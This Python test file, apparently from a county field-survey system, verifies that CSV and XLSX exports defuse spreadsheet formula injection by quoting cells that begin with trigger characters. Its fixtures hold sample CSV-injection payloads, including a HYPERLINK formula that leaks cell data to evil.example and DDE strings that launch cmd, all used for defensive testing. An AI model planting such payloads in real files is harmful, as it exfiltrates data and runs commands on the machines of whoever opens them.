"""A name typed on a laptop never becomes a live formula in the county's CSV or XLSX exports.

A secretary's device sends an ordinary signed batch whose texts start with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return (OWASP's CSV-injection triggers), and a visit whose assessment
has a negative income. The county exports them in process, on SQLite and on PostgreSQL, and the
files are read back as Excel would: with openpyxl (no cell is a formula; every such text starts
with a quote; the income is still a number cell) and with the csv module. The command line's
``households --format csv`` and the roster reports apply the same rule.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from fieldsurvey.core.records import household_to_dict
from fieldsurvey.core.spreadsheet import FORMULA_TRIGGERS, safe_cell, safe_row
from fieldsurvey.server.auth.identity import Principal
from fieldsurvey.server.batches.ingest import ingest
from fieldsurvey.server.db.engine import ServerDir
from fieldsurvey.server.exports.tables import Exporter, csv_chunks, write_xlsx, xlsx_chunks
from fieldsurvey.server.households.filters import HouseholdFilter
from fieldsurvey.server.roster.json_import import import_roster
from fieldsurvey.sync.batch import batch_payload, seal_batch
from tests.support.factories import household
from tests.support.server import (
    BACKENDS,
    VILLAGE_A,
    database,
    enroll_secretary,
    init_county,
    roster,
)

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A2,"点击")': "formula",
    "+86-138-0000-0000": "plus",
    "-2+3+cmd|' /C calc'!A0": "dde",
    "@SUM(1+1)*cmd|' /C calc'!A0": "at",
    "\t=1+1": "tab",
    "\r=1+1": "return",
}
NEGATIVE_INCOME = -1234.5


def test_only_texts_that_could_start_a_formula_get_a_quote() -> None:
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert [safe_cell(v) for v in ("王建国", "6107281010010001", "", " =x", "'=x")] == [
        "王建国",
        "6107281010010001",
        "",
        " =x",
        "'=x",
    ]
    assert safe_row([-5, -1.5, 0, True, None, "-5"]) == [
        -5,
        -1.5,
        0,
        True,
        None,
        "'-5",
    ]  # numbers by type stay numbers
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.fixture(scope="module", params=BACKENDS)
def county(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[ServerDir]:
    with database(request.param) as url:
        sd = init_county(tmp_path_factory.mktemp(f"export-{request.param}"), url)
        import_roster(sd, "test", {**roster(1), "households": []})  # the villages only
        identity = enroll_secretary(sd, "sec", [VILLAGE_A])
        names = list(HOSTILE)
        h = household(no="6107281010019001", village=VILLAGE_A, phone=names[1])
        h.group = names[0]
        for m, name in zip(h.members, names[2:], strict=True):
            m.name = name
        record = household_to_dict(h)
        visit = {
            "visit_id": "a1b2c3d4-0000-4000-8000-000000000001",
            "household_id": h.household_id,
            "visit_date": "2025-05-06",
            "visitor": "王\x07建国",
            "form_id": "household_visit",
            "form_version": "1",
            "answers": {},
            "status": "finalized",
            "findings": names[3],
            "assessment": {
                "assessed_on": "2025-05-06",
                "dimensions": {},
                "exit_eligible": False,
                "net_income_per_capita": NEGATIVE_INCOME,
                "poverty_line": 6000.0,
                "risk_flags": [{"code": "x", "zh": names[4], "en": names[4]}],
            },
        }
        payload = batch_payload(
            identity,
            [{"kind": "household.create", "household": record}, {"kind": "visit", "visit": visit}],
            base_cursor=None,
        )
        ingest(sd, seal_batch(identity, payload), via="file")
        try:
            yield sd
        finally:
            sd.close()


def exporter(sd: ServerDir, kind: str) -> Exporter:
    staff = Principal("staff-id", "staff", "county_staff", None)
    return Exporter(sd, staff, kind, HouseholdFilter(), "en")


def number(text: str) -> bool:
    """A CSV cell holding a number the county computed (written as digits, not quoted)."""
    try:
        float(text)
    except ValueError:
        return False
    return True


def hostile_cells(values: list[Any]) -> list[str]:
    return [v for v in values if isinstance(v, str) and v.lstrip("'") in HOSTILE]


@pytest.mark.parametrize("kind", ["households", "members", "visits", "assessments"])
def test_exports_quote_every_formula_start_and_keep_numbers_numeric(
    county: ServerDir, kind: str, tmp_path: Path
) -> None:
    table = list(
        csv.reader(io.StringIO(b"".join(csv_chunks(exporter(county, kind))).decode("utf-8-sig")))
    )
    path = write_xlsx(exporter(county, kind), tmp_path, county.secrets.files_key)  # sealed on disk
    wb = load_workbook(
        io.BytesIO(b"".join(xlsx_chunks(path, county.secrets.files_key)))
    )  # not read-only: data_type tells a formula cell from a text
    cells = [c for row in wb.active.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    xlsx_rows = [[c.value for c in row] for row in wb.active.iter_rows()]
    for rows in (table, xlsx_rows):
        found = [v for row in rows for v in hostile_cells(row)]
        assert found, f"{kind}: the hostile texts are exported"
        assert all(v.startswith("'") and v[1:] in HOSTILE for v in found)
        assert not [
            v
            for row in rows
            for v in row
            if isinstance(v, str) and v.startswith(FORMULA_TRIGGERS) and not number(v)
        ]
    if kind == "assessments":
        income = xlsx_rows[0].index("net income per person (yuan)")
        cell = wb.active.cell(row=2, column=income + 1)
        assert cell.value == NEGATIVE_INCOME and cell.data_type == "n"  # a number cell, not text
        assert table[1][income] == str(NEGATIVE_INCOME)  # in CSV a number as digits, no quote
    if kind == "visits":  # a control character XLSX cannot hold is replaced there, kept in CSV
        visitor = xlsx_rows[0].index("visitor")
        assert xlsx_rows[1][visitor] == "王\ufffd建国" and table[1][visitor] == "王\x07建国"
    if kind == "households":
        members = xlsx_rows[0].index("members")
        assert wb.active.cell(row=2, column=members + 1).value == 4


def test_the_command_line_csv_and_the_roster_reports_quote_formula_starts(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    fast_kdf: dict,
) -> None:
    from fieldsurvey.cli import main
    from fieldsurvey.store import Store

    data_dir = tmp_path / "store"
    passphrase = "村里的网络时有时无"
    h = household(no="6107281010019002")
    h.members[0].name = "=cmd|' /C calc'!A0"
    store, _recovery = Store.create(data_dir, passphrase, kdf=fast_kdf)
    store.households.add(h)
    store.close()
    monkeypatch.setenv("FIELDSURVEY_PASSPHRASE", passphrase)
    assert main(["households", "--data-dir", str(data_dir), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1][rows[0].index("head_name")] == "'=cmd|' /C calc'!A0"
    assert rows[1][rows[0].index("member_count")] == "4"

    from fieldsurvey.ui.roster_dialog import write_csv

    report = tmp_path / "report.csv"
    write_csv(report, [["row", "household_no"], ["2", "=1+1"], ["3", "-7"]])
    assert list(csv.reader(io.StringIO(report.read_text("utf-8-sig")))) == [
        ["row", "household_no"],
        ["2", "'=1+1"],
        ["3", "'-7"],
    ]
